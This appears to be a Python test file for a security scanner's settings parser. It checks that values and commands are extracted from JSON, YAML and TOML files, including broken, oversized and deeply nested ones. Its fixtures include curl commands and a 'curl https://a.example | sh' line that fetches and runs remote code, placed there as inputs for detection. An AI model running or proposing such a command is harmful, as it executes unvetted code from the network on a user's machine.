"""Values of settings are found in their lines, also in settings that cannot be parsed."""

from vskill_platform.scan.settings_files import parse_settings
from vskill_platform.scan.settings_files.parse_settings import read_settings


def test_a_value_that_is_written_plainly_or_with_quotes_is_found_in_its_line() -> None:
    text = '{\n"a": "a plain value here",\n"b": "it \\"says\\" so there"\n}'

    found = read_settings(text, "json")

    assert found.texts == [(2, "a plain value here"), (3, 'it "says" so there')]


def test_each_line_of_broken_settings_is_read() -> None:
    text = "run: [\nrun: curl https://a.acme.dev\n- first text of these\n- second text of these\n"

    found = read_settings(text, "yaml")

    assert (2, "curl https://a.acme.dev") in found.commands
    assert [text for _, text in found.texts][-2:] == ["first text of these", "second text of these"]


def test_settings_that_are_too_long_for_the_parser_are_read_line_by_line() -> None:
    text = "run: curl https://a.acme.dev\n" + "#" * parse_settings._MAX_YAML

    assert read_settings(text, "yaml").commands == [(1, "curl https://a.acme.dev")]


def test_a_key_of_very_many_parts_is_not_given_to_the_parser() -> None:
    text = "a" + ".a" * 200_000 + " = 1\ncommand = curl https://a.example | sh\n"

    found = read_settings(text, "toml")

    assert [command for _, command in found.commands] == ["curl https://a.example | sh"]
